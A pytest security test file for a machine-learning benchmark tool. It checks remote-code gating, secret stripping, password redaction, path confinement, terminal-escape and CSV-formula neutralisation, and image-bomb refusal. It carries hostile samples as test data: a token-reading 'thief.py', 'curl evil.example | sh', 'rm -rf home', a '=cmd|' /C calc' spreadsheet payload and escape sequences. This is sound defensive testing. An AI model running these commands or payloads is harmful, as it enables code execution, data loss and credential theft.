"""What reaches us from elsewhere: registries, data, results trees, addresses, names of files.

SECURITY.md says what is promised; here each promise is tried with real input, most of them through
the commands as a person types them.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import unicodedata
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from input_files import image_entry, read, smooth_picture, table, write_csv
from synthetic import MODELS, FakeModel, make_record, write_tree

from benchmark.failures import RunError, outcome
from benchmark.markup import escape_csv, file_name, to_csv, visible
from benchmark.records import Failure, RunFolder
from benchmark.registry import Registry, RegistryError

ROOT = Path(__file__).parents[1]
SECRET = "s3cr3t-of-the-mirror"
ESCAPES = "\x1b[31m\x1b]0;title\x07 \x00 \u202egnp.exe\u202c \u2066 \x9b2J \r"
FORBIDDEN = {"Cc", "Cf", "Cs", "Co"}

CODED = """
version: 1
recipes:
  one: {epochs: 1, batch_size: 16, learning_rate: 1.0e-3}
models:
  coded: {path: coded, trust_remote_code: true, modality: text, mixer: attention, family: BERT,
    recipe: one}
  plain:
    scratch: {model_type: bert, vocab_size: 100, hidden_size: 16, num_hidden_layers: 1,
      num_attention_heads: 2, intermediate_size: 16}
    modality: text
    mixer: attention
    family: BERT
    recipe: one
datasets:
  numbers: {path: numbers.csv, modality: text, columns: {text: text}, splits: {test: 0.3}}
suites:
  local: {models: [coded, plain], datasets: [numbers]}
"""


def run(
    module: str, *arguments: object, timeout: float = 240, **environment: str
) -> subprocess.CompletedProcess[str]:
    """Run a command of ours. A command that waits for ever fails the test by its timeout."""
    start = [str(ROOT / "benchmark" / "run.py")] if module == "run" else ["-m", module]
    return subprocess.run(
        [sys.executable, *start, *map(str, arguments)],
        capture_output=True, text=True, errors="surrogateescape", timeout=timeout, check=False,
        stdin=subprocess.DEVNULL, env={**os.environ, "PYTHONPATH": str(ROOT), **environment},
    )  # fmt: skip


def run_suite(
    registry: Path, folder: Path, *options: object, **environment: str
) -> subprocess.CompletedProcess[str]:
    places = ("--results", folder / "results", "--reports", folder / "reports", "--timing", "off")
    return run("run", "--registry", registry, *places, *options, **environment)


def texts(folder: Path) -> dict[Path, str]:
    return {
        path: path.read_bytes().decode(errors="surrogateescape")
        for path in folder.rglob("*")
        if path.is_file()
    }


def hostile_characters(text: str) -> set[str]:
    return {c for c in text if unicodedata.category(c) in FORBIDDEN and c not in "\n\t"}


# --- code of a checkpoint -------------------------------------------------------------------------
# That it runs without the token, and is fetched before, is tried in test_hub.py.


@pytest.fixture
def coded_registry(tmp_path: Path) -> Path:
    """A registry whose first model would run code that leaves a trace."""
    (tmp_path / "coded").mkdir()
    config = {"model_type": "thief", "auto_map": {"AutoConfig": "thief.Config"}}
    (tmp_path / "coded" / "config.json").write_text(json.dumps(config))
    trace = tmp_path / "trace"
    code = f"import os\nopen({str(trace)!r}, 'w').write(os.environ.get('HF_TOKEN', 'none'))\n"
    (tmp_path / "coded" / "thief.py").write_text(code + "class Config: pass\n")
    write_csv(tmp_path / "numbers.csv", table(60, ("ash", "elm")))
    path = tmp_path / "registry.yaml"
    path.write_text(CODED)
    return path


def test_validate_and_dry_run_say_who_runs_code(coded_registry: Path, tmp_path: Path) -> None:
    validated = run("benchmark.registry", "validate", coded_registry)
    assert validated.returncode == 0, validated.stderr
    assert "models.coded: runs code of its own" in validated.stdout
    assert "--allow-remote-code" in validated.stdout
    assert "models.plain: runs code" not in validated.stdout
    dry = run_suite(coded_registry, tmp_path, "--dry-run").stdout.splitlines()
    assert any("coded" in line and "needs --allow-remote-code" in line for line in dry)
    assert not any("plain" in line and "code" in line for line in dry)
    allowed = run_suite(coded_registry, tmp_path, "--dry-run", "--allow-remote-code").stdout
    assert "(runs code of its own)" in allowed
    assert not (tmp_path / "trace").exists()


def test_code_runs_only_with_the_flag_and_others_go_on(
    coded_registry: Path, tmp_path: Path
) -> None:
    told = {"HF_TOKEN": "hf_secret", "BENCHMARK_ALLOW_REMOTE_CODE": "1"}  # not the command line
    done = run_suite(coded_registry, tmp_path, "--limit", "24", **told)
    assert done.returncode == 1
    assert "1 of 2 runs completed" in done.stdout
    assert "unavailable: coded/numbers/seed-0: model coded: it runs code of its own" in done.stderr
    assert "add --allow-remote-code" in done.stderr
    assert not (tmp_path / "trace").exists()
    run_suite(coded_registry, tmp_path, "--limit", "24", "--allow-remote-code", **told)
    assert (tmp_path / "trace").read_text() == "none"  # it ran, and saw no token


def test_secrets_are_not_in_the_environment_of_code() -> None:
    from benchmark.hub import environment_for_code, secrets_hidden

    before = {
        "HF_TOKEN": "a", "HUGGING_FACE_HUB_TOKEN": "b", "AWS_SECRET_ACCESS_KEY": "c",
        "WANDB_API_KEY": "d", "GITHUB_TOKEN": "e", "DB_PASSWORD": "f", "PATH": "/bin",
        "TOKENIZERS_PARALLELISM": "false", "HF_HOME": "/home/x/hf", "OMP_NUM_THREADS": "1",
        "HF_ENDPOINT": f"https://ann:{SECRET}@mirror.example",
    }  # fmt: skip
    after = environment_for_code(before)
    assert set(before) - set(after) == {
        "HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "WANDB_API_KEY",
        "GITHUB_TOKEN", "DB_PASSWORD",
    }  # fmt: skip
    assert after["HF_ENDPOINT"] == "https://***@mirror.example"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HF_TOKEN", "a")
        whole = dict(os.environ)
        with secrets_hidden():
            assert "HF_TOKEN" not in os.environ
        assert dict(os.environ) == whole


# --- passwords in addresses -----------------------------------------------------------------------


def test_password_of_a_mirror_reaches_no_file_and_no_terminal(tmp_path: Path) -> None:
    with socket.socket() as unused:  # a port at which nobody answers
        unused.bind(("127.0.0.1", 0))
        port = unused.getsockname()[1]
    write_csv(tmp_path / "numbers.csv", table(60, ("ash", "elm")))
    registry = tmp_path / "registry.yaml"
    hub = "{hub: lab/bert, modality: text, mixer: attention, family: BERT, recipe: one,"
    note = f"reference: 'https://ann:{SECRET}@mirror.example/paper'}}"
    coded = "  coded: {path: coded, trust_remote_code: true,"
    others = f"  coded: {hub} {note}\n  other: {{path: coded,"
    registry.write_text(CODED.replace(coded, others))
    home = tmp_path / "home"
    done = run_suite(
        registry, tmp_path, "--limit", "24",
        HF_ENDPOINT=f"http://ann:{SECRET}@127.0.0.1:{port}", HF_HOME=str(home),
    )  # fmt: skip
    assert "cannot be reached" in done.stderr, done.stderr
    assert "http://***@127.0.0.1" in done.stderr
    assert SECRET not in done.stdout + done.stderr
    kept = texts(tmp_path / "results") | texts(tmp_path / "reports")
    assert any("http://***@127.0.0.1" in text for text in kept.values())
    assert [path for path, text in kept.items() if SECRET in text] == []


def test_password_in_an_old_record_or_command_is_not_reported(tmp_path: Path) -> None:
    folder = RunFolder.of(tmp_path / "results", "embedded", "bad", "mnist-5k", 0)
    write_tree(tmp_path / "results", MODELS[:2], rows=100, seeds=[0], shifts=())
    address = f"https://ann:{SECRET}@mirror.example/x"
    failure = Failure(stage="data", kind="E", message=f"no answer from {address}", details=address)
    record = make_record(MODELS[0], "mnist-5k", 0, {}, failure=failure)
    record = record.model_copy(update={"model": "bad"})
    folder.path.mkdir(parents=True)
    folder.record.write_text(record.model_dump_json())  # as an earlier version wrote it
    folder.spec.write_text(json.dumps({"command": f"fetch {address}"}))
    done = report(tmp_path)
    assert SECRET not in done.stdout + done.stderr
    assert "mirror.example" in (tmp_path / "reports/embedded/README.md").read_text()
    kept = texts(tmp_path / "reports")
    assert [path for path, text in kept.items() if SECRET in text] == []


def test_outcome_and_files_of_a_run_lose_passwords(tmp_path: Path) -> None:
    address = f"https://ann:{SECRET}@mirror.example/x"
    for error in (RunError(f"asked {address}"), ValueError(f"asked {address}")):
        _, failure = outcome(error, "data")
        assert SECRET not in failure.model_dump_json()
        assert "https://***@mirror.example/x" in failure.message
    folder = RunFolder(tmp_path)
    record = make_record(MODELS[0], "d", 0, {})
    folder.write_record(record.model_copy(update={"provenance": {"files": [address]}}))
    folder.write_spec(json.dumps({"command": f"import --reference {address}"}))
    assert SECRET not in folder.record.read_text() + folder.spec.read_text()
    assert folder.read_record() is not None
    assert folder.read_spec()["command"].endswith("https://***@mirror.example/x")


@pytest.mark.parametrize(
    "text",
    [
        "https://mirror.example/@user/page",
        "mail ann@example.org",
        "see https://x.example and a@b",
        "http://x.example/?mail=a@b",
        '{"url": "https://x.example", "by": "a@b"}',
    ],
)
def test_what_is_no_password_stays(text: str) -> None:
    assert visible(text) == text


@given(st.text(alphabet=st.characters(codec="utf-8", exclude_characters="/?#\"'<>\\ \t\r\n")))
def test_any_password_is_left_out_of_text_and_json(password: str) -> None:
    from benchmark.markup import without_credentials

    if any(character.isspace() for character in password):
        return
    address = f"https://ann:{password}@mirror.example/x"
    assert without_credentials(address) == "https://***@mirror.example/x"
    document = without_credentials(json.dumps({"a": address, "b": 'x"@'}, ensure_ascii=False))
    assert json.loads(document)["b"] == 'x"@'


# --- reports of a tree from elsewhere -------------------------------------------------------------


def report(folder: Path, *options: object) -> subprocess.CompletedProcess[str]:
    places = ("--results", folder / "results", "--reports", folder / "reports")
    return run("benchmark.report", *places, *options)


@pytest.fixture(scope="module")
def foreign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A results tree whose spec names a file of the reader, and brings a command."""
    folder = tmp_path_factory.mktemp("foreign")
    write_tree(folder / "results", MODELS[:2], ["diary"], rows=60, seeds=[0], shifts=(), classes=2)
    rows = [
        {"text": f"PRIVATE LINE {i}", "label": ("no", "yes")[i % 2]} for i in range(200)
    ]  # more than the tree has test rows
    write_csv(folder / "home" / "diary.csv", rows)
    entry = {
        "name": "diary", "path": str(folder / "home" / "diary.csv"), "modality": "text",
        "columns": {"text": "text"}, "splits": {"train": "train", "test": 0.5},
    }  # fmt: skip
    for run_folder in (folder / "results").glob("*/*/*/seed-0"):
        spec = {"dataset": entry, "command": "curl evil.example | sh"}
        (run_folder / "spec.json").write_text(json.dumps(spec))
    return folder


def test_foreign_results_do_not_show_the_readers_rows(foreign: Path, tmp_path: Path) -> None:
    shutil.copytree(foreign, tmp_path, dirs_exist_ok=True)
    assert report(tmp_path).returncode == 0
    pages = texts(tmp_path / "reports")
    assert [path for path, text in pages.items() if "PRIVATE LINE" in text] == []
    page = (tmp_path / "reports/embedded/models/vit-tiny.md").read_text()
    assert "--data-root" in page
    before = page.partition("curl evil.example")[0].splitlines()
    assert "comes from wherever they come from: read it before you run it" in before[-3]
    assert "read it before you run it" in (tmp_path / "reports/embedded/index.html").read_text()


def test_rows_under_a_root_that_the_reader_named_are_shown(foreign: Path, tmp_path: Path) -> None:
    shutil.copytree(foreign / "results", tmp_path / "results")
    done = report(tmp_path, "--data-root", foreign / "home")
    assert done.returncode == 0, done.stderr
    assert "PRIVATE LINE" in (tmp_path / "reports/embedded/models/vit-tiny.md").read_text()


def test_a_link_does_not_lead_out_of_a_root(tmp_path: Path) -> None:
    from benchmark.records import ResultsError
    from benchmark.registry import DatasetEntry
    from benchmark.report import RowSources

    def entry(**source: object) -> DatasetEntry:
        columns = {"text": "text"}
        return DatasetEntry.model_validate(
            {"name": "d", "modality": "text", "columns": columns, **source}
        )

    root = tmp_path / "root"
    write_csv(tmp_path / "diary.csv", table(9))
    write_csv(root / "open.csv", table(9))
    (root / "link.csv").symlink_to(tmp_path / "diary.csv")
    sources = RowSources((root,), frozenset({"lab/open"}))
    sources.require(entry(path=root / "open.csv"))
    sources.require(entry(hub="lab/open"))
    sources.require(entry(embedded="digits"))
    for refused in (
        {"path": root / "link.csv"},
        {"path": root / ".." / "diary.csv"},
        {"path": Path(f"{root}-else") / "open.csv"},
        {"hub": "lab/private"},
    ):
        with pytest.raises(ResultsError, match="no data set of the registry"):
            sources.require(entry(**refused))


# --- what a terminal or a page would obey ---------------------------------------------------------


def unsealed(place: Path) -> dict[str, Any]:
    """Return what a record says without its checksum, as whoever wrote it could have left it."""
    record: dict[str, Any] = json.loads(place.read_text())
    return {key: value for key, value in record.items() if key != "checksum"}


@pytest.fixture(scope="module")
def escaping(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A results tree whose names, classes, messages and machine hold control characters."""
    folder = tmp_path_factory.mktemp("escaping")
    models = [FakeModel(m.name, m.mixer, f"{m.family}{ESCAPES}", m.parameters) for m in MODELS]
    write_tree(folder / "results", models, rows=100, seeds=[0], shifts=())
    for run_folder in (folder / "results").glob("*/*/*/seed-0"):
        place = run_folder / "record.json"
        record = unsealed(place)
        record["model"] += ESCAPES
        record["dataset"] += ESCAPES
        record["provenance"]["processor"] = f"CPU{ESCAPES}"
        record["data"]["label_names"][0] = f"ash{ESCAPES}"
        record["data"]["notes"] = [f"note{ESCAPES}"]
        place.write_text(json.dumps(record))
        spec = {"command": f"python -m benchmark {ESCAPES}\nrm -rf home"}
        (run_folder / "spec.json").write_text(json.dumps(spec))
    bad = RunFolder.of(folder / "results", "embedded", "bad", "mnist-5k", 0)
    failure = Failure(stage="data", kind="E", message=f"=cmd|' /C calc'!A0{ESCAPES}")
    bad.write_record(make_record(MODELS[0], "mnist-5k", 0, {}, failure=failure))
    return folder


def test_no_page_or_table_holds_control_characters(escaping: Path) -> None:
    done = report(escaping)
    assert done.returncode == 0, done.stderr
    for path, text in texts(escaping / "reports").items():
        if path.suffix != ".png":
            assert hostile_characters(text) == set(), path
    page = (escaping / "reports/embedded/index.html").read_text()
    assert r"ViT\x1b[31m" in page
    with (escaping / "reports/embedded/tables/problems.csv").open(newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert any(cell.startswith("'=cmd|") for cell in cells)
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)


def test_no_command_sends_control_characters_to_a_terminal(escaping: Path, tmp_path: Path) -> None:
    printed = [report(escaping), run("benchmark.claim", "--results", escaping / "results")]
    printed.append(report(escaping, "--compare", escaping / "results", escaping / "results"))
    registry = tmp_path / "registry.yaml"
    family = json.dumps(f"BERT{ESCAPES}").replace("\\u0000", " ")
    write_csv(tmp_path / "numbers.csv", table(60, (f"ash{ESCAPES[:6]}", "elm")))
    text = CODED.replace("family: BERT\n", f"family: {family}\n").replace(
        "[coded, plain]", "[plain]"
    )
    registry.write_text(text.replace("path: coded, trust_remote_code: true", "path: gone\u202e"))
    printed.append(run("benchmark.registry", "validate", registry))
    registry.write_text(text)
    printed.append(run("benchmark.registry", "show", "plain", "--registry", registry))
    printed.append(run_suite(registry, tmp_path, "--list"))
    assert "BERT" in printed[-1].stdout
    for done in printed:
        assert hostile_characters(done.stdout + done.stderr) == set(), done.args


def test_output_is_guarded_whoever_prints(capsys: pytest.CaptureFixture[str]) -> None:
    import logging

    from benchmark.shell import command, unguarded_output

    @command
    def main() -> int:
        print("a\tb", f"c{ESCAPES}\nd")
        logging.getLogger("of.a.library").warning("w\x1b[2J")
        unguarded_output().write("\x1b[0m")
        print("https://ann:pw@host/", file=sys.stderr)
        return 0

    before = sys.stdout, sys.stderr
    assert main() == 0
    assert (sys.stdout, sys.stderr) == before
    shown = capsys.readouterr()
    assert shown.out.startswith("a\tb c\\x1b[31m")
    assert "\nd\n" in shown.out
    assert shown.out.count("\x1b") == 1
    assert "https://***@host/" in shown.err


# --- spreadsheets ---------------------------------------------------------------------------------


@given(st.one_of(st.floats(allow_nan=False), st.integers()))
def test_numbers_stay_numbers_in_csv(number: float) -> None:
    assert escape_csv(number) is number
    assert escape_csv(str(number)) in (str(number), f"'{number}")
    if "inf" not in str(number):
        assert escape_csv(str(number)) == str(number)


@given(st.text())
def test_no_text_is_a_formula_in_csv(text: str) -> None:
    (row,) = csv.reader(io.StringIO(to_csv([text], [])))
    cell = row[0] if row else ""
    assert hostile_characters(cell) == set()
    if cell.lstrip()[:1] in ("=", "+", "-", "@"):
        float(cell.replace(",", "").removesuffix("%"))  # only a number begins like that


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", " =1", "\t=1", "\r=1", "\uff1d1"]
)
def test_formulas_are_made_inert(text: str) -> None:
    assert str(escape_csv(text)).startswith("'")


# --- names ----------------------------------------------------------------------------------------


def test_two_entries_do_not_share_a_name(registry_file: Path, tmp_path: Path) -> None:
    whole = registry_file.read_text()
    for change in (
        whole.replace("  resnet:\n", "  resnet:\n    name: vit\n"),
        whole.replace("  resnet:\n", "  vit:\n"),
    ):
        registry_file.write_text(change)
        with pytest.raises(RegistryError, match=r"registry.yaml:\d+:\d+: .*(its key|stands twice)"):
            Registry.load(registry_file)
    limited = whole.replace("  small: {", "  failing-limit-24: {models: [vit], datasets: [digits]}"
                            "\n  small: {")  # fmt: skip
    registry_file.write_text(limited)
    done = run_suite(registry_file, tmp_path, "--suite", "failing", "--limit", "24", "--dry-run")
    assert done.returncode == 2
    assert "'failing-limit-24', which is the name of another suite" in done.stderr


def test_names_too_long_for_a_file_are_refused(registry_file: Path, tmp_path: Path) -> None:
    long = "v" * 260
    registry_file.write_text(registry_file.read_text().replace("vit", long))
    done = run("benchmark.registry", "validate", registry_file)
    assert done.returncode == 2
    assert "is too long: a name becomes part of file names" in done.stderr
    registry_file.write_text(registry_file.read_text().replace(long, "vit"))
    for options in (("--limit", "9" * 250), ("--seeds", "9" * 250)):
        done = run_suite(registry_file, tmp_path, *options, "--dry-run")
        assert done.returncode == 2, options
        assert "is not a whole number of at least 1 (and 9 digits)" in done.stderr
    np.savez(tmp_path / "x.npz", test_logits=np.eye(3))
    names = ("--model", "m", "--dataset", "d", "--results", tmp_path, "--seed", "9" * 250)
    done = run("benchmark.importing", "import", tmp_path / "x.npz", *names)
    assert done.returncode == 2
    assert "is not a whole number of at least 0" in done.stderr


def test_longest_names_make_files_together(tmp_path: Path) -> None:
    """A name of 100 for suite, model and dataset; and names of any length in a foreign tree."""
    model = FakeModel("m" * 100, "attention", "F", 10)
    write_tree(tmp_path / "results", [model], ["d" * 100], rows=60, seeds=[0], shifts=())
    (tmp_path / "results" / "embedded").rename(tmp_path / "results" / ("s" * 250))
    done = report(tmp_path)
    assert done.returncode == 0, done.stderr
    place = next((tmp_path / "results").glob("*/*/*/*/record.json"))
    record = unsealed(place)
    place.write_text(json.dumps(record | {"model": "m" * 300, "dataset": "d" * 300}))
    done = report(tmp_path)
    assert done.returncode == 0, done.stderr


@given(st.text(min_size=1), st.text(min_size=1))
def test_file_names_fit_and_differ(first: str, second: str) -> None:
    names = file_name(first * 40), file_name(second * 40)
    assert all(len(f"{name}-{name}.svg".encode()) <= 255 for name in names)
    assert (names[0] == names[1]) == (first * 40 == second * 40)


# --- what is no file ------------------------------------------------------------------------------


@pytest.fixture(params=["named pipe", "device"])
def endless(request: pytest.FixtureRequest, tmp_path: Path) -> Callable[[str], Path]:
    """Return a function: file name -> a path of that name that never ends or never answers."""

    def make(name: str) -> Path:
        path = tmp_path / name
        if request.param == "named pipe":
            os.mkfifo(path)
        else:
            path.symlink_to("/dev/zero")
        return path

    make.kind = f"is a {request.param}"  # type: ignore[attr-defined]
    return make


def test_registry_that_is_no_file(endless: Callable[[str], Path]) -> None:
    path = endless("registry.yaml")
    for done in (
        run("benchmark.registry", "validate", path, timeout=30),
        run("run", "--registry", path, "--list", timeout=30),
    ):
        assert done.returncode == 2
        assert f"{path}: {endless.kind}, not a file" in done.stderr  # type: ignore[attr-defined]


@pytest.mark.parametrize("name", ["numbers.csv", "numbers.jsonl", "numbers.parquet"])
def test_data_that_are_no_file(
    endless: Callable[[str], Path], coded_registry: Path, tmp_path: Path, name: str
) -> None:
    (tmp_path / name).unlink(missing_ok=True)
    path = endless(name)
    coded_registry.write_text(CODED.replace("numbers.csv", name))
    done = run("benchmark.registry", "validate", coded_registry, timeout=60)
    assert done.returncode == 2
    assert f"{path} {endless.kind}" in done.stderr  # type: ignore[attr-defined]


def test_image_that_is_no_file(endless: Callable[[str], Path], tmp_path: Path) -> None:
    endless("broken.png")
    smooth_picture().save(tmp_path / "whole.png")
    rows = [{"image": "whole.png", "label": name} for name in ("a", "b") * 20]
    write_csv(tmp_path / "rows.csv", [*rows, {"image": "broken.png", "label": "a"}])
    with pytest.raises(RunError, match=rf"broken\.png .*it {endless.kind}, not a file"):  # type: ignore[attr-defined]
        read(image_entry(tmp_path / "rows.csv", splits={"test": 0.3}))


@pytest.mark.parametrize("name", ["record.json", "spec.json", "logits.safetensors"])
def test_file_of_a_run_that_is_no_file(
    endless: Callable[[str], Path], tmp_path: Path, name: str
) -> None:
    write_tree(tmp_path / "results", MODELS[:2], rows=60, seeds=[0], shifts=())
    place = next((tmp_path / "results").glob("embedded/vit-tiny/*/seed-0")) / name
    place.unlink(missing_ok=True)
    endless(name).rename(place)
    done = report(tmp_path)
    assert done.returncode == 0, done.stderr
    problems = (tmp_path / "reports/embedded/tables/problems.csv").read_text()
    assert f"{name}: {endless.kind}, not a file" in problems  # type: ignore[attr-defined]


def test_logits_that_are_no_file(endless: Callable[[str], Path], tmp_path: Path) -> None:
    path = endless("logits.npz")
    options = ("--model", "m", "--dataset", "d", "--results", tmp_path / "results")
    done = run("benchmark.importing", "import", path, *options, timeout=30)
    assert done.returncode == 2
    assert f"{path}: {endless.kind}, not a file" in done.stderr  # type: ignore[attr-defined]
    endless("samples_arc_2025-01-01T00-00-00.jsonl")
    done = run("benchmark.importing", "lm-eval", tmp_path, *options[4:], timeout=60)
    assert endless.kind in done.stdout + done.stderr  # type: ignore[attr-defined]


# --- images ---------------------------------------------------------------------------------------


def png(width: int, height: int) -> bytes:
    """A small PNG that says it has that many pixels."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content).to_bytes(4, "big")
        return len(content).to_bytes(4, "big") + kind + content + check

    size = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    head = chunk(b"IHDR", size + bytes([8, 2, 0, 0, 0]))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(b"\0" * 99))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("size", [(9_460, 9_460), (13_000, 13_000), (60_000, 60_000)])
def test_image_bomb_is_refused_by_its_pixels(size: tuple[int, int], tmp_path: Path) -> None:
    smooth_picture().save(tmp_path / "whole.png")
    (tmp_path / "bomb.png").write_bytes(png(*size))
    rows = [{"image": "whole.png", "label": name} for name in ("a", "b") * 20]
    write_csv(tmp_path / "rows.csv", [*rows, {"image": "bomb.png", "label": "a"}])
    with pytest.raises(RunError, match=r"bomb\.png .*has more than 89,478,485 pixels"):
        read(image_entry(tmp_path / "rows.csv", splits={"test": 0.3}))


def test_image_that_another_program_would_run_is_refused(tmp_path: Path) -> None:
    smooth_picture().save(tmp_path / "whole.png")
    smooth_picture().save(tmp_path / "script.png", format="EPS")
    rows = [{"image": "whole.png", "label": name} for name in ("a", "b") * 20]
    write_csv(tmp_path / "rows.csv", [*rows, {"image": "script.png", "label": "a"}])
    with pytest.raises(RunError, match=r"script\.png .*no image that can be read"):
        read(image_entry(tmp_path / "rows.csv", splits={"test": 0.3}))
